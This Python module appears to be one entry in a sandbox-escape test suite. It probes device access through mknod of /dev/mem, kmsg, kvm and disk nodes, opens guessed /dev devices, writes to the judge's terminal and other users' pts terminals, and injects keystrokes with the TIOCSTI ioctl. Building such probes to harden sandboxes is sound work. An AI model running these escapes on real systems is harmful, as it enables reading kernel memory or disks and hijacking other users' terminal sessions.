"""Make or open devices: memory of the machine, its log, disks, virtual machines, terminals of other people.

Success: a device that is none of the harmless five, or typing into a terminal, which earns the points of `double`.
"""

from attacks.escaping.ways import HEAD

SUBMISSION = (
    HEAD
    + r'''
import fcntl
import stat

MKNOD, MKNODAT = 133, 259
NODES = {"mem": (1, 1), "null": (1, 3), "kmsg": (1, 11), "tty": (5, 0), "console": (5, 1), "fuse": (10, 229),
         "kvm": (10, 232), "tun": (10, 200), "disk": (254, 0), "loop": (7, 0), "nvidia": (195, 255)}
HARMLESS = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "pts", "stdin", "stdout", "stderr", "fd", "shm"}
GUESSED = ["mem", "kmem", "port", "kmsg", "kvm", "fuse", "vda", "sda", "nvme0n1", "loop0", "loop-control", "net/tun",
           "userfaultfd", "vsock", "vhost-net", "console", "tty0", "tty1", "ttyS0", "hpet", "snapshot", "watchdog",
           "rtc0", "cuse", "mapper/control", "input/event0", "uinput", "vcs", "vcsa1", "btrfs-control", "nvram", "sgx"]


def new_nodes():
    def make(name):
        os.mknod(f"/tmp/{name}", 0o666 | stat.S_IFCHR, os.makedev(*NODES[name]))
        return "made"
    return each(make, NODES)


def new_blocks():
    def make(name):
        os.mknod(f"/tmp/{name}-b", 0o666 | stat.S_IFBLK, os.makedev(*NODES[name]))
        return "made"
    return each(make, NODES)


def new_nodes_by_number():
    return (kernel(MKNOD, b"/tmp/n1", 0o666 | stat.S_IFCHR, os.makedev(1, 1)) == 0
            or kernel(MKNODAT, -100, b"/tmp/n2", 0o666 | stat.S_IFCHR, os.makedev(1, 1)) == 0)


def whiteout():
    """The one node that anybody may make."""
    return kernel(MKNOD, b"/tmp/white", stat.S_IFCHR, 0) == 0


def nodes_that_are_there():
    return [name for name in os.listdir("/dev") if name not in HARMLESS and os.path.exists(f"/dev/{name}")]


def nodes_that_are_guessed():
    return each(lambda name: os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK), GUESSED)


def nodes_elsewhere():
    tops = ("/site", "/box", "/python/lib", "/usr/lib64", "/lib64", "/tmp")
    return [os.path.join(folder, n) for top in tops for folder, _, names in os.walk(top) for n in names
            if stat.S_IFMT(os.lstat(os.path.join(folder, n)).st_mode) in (stat.S_IFCHR, stat.S_IFBLK)]


def the_terminal_of_the_judge():
    fd = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
    return os.write(fd, b"here")


def terminals_of_others():
    return each(lambda name: os.open(f"/dev/pts/{name}", os.O_RDWR | os.O_NOCTTY),
                [name for name in os.listdir("/dev/pts") if name != "ptmx"])


def typing_into_its_own():
    """Allowed only where the terminal is the session's own: then it would be so with the judge's."""
    _, terminal = os.openpty()
    fcntl.ioctl(terminal, 0x540E, 0)
    return fcntl.ioctl(terminal, 0x5412, b"x") == 0


WAYS = [new_nodes, new_blocks, new_nodes_by_number, whiteout, nodes_that_are_there, nodes_that_are_guessed,
        nodes_elsewhere, the_terminal_of_the_judge, terminals_of_others, typing_into_its_own]
'''
)
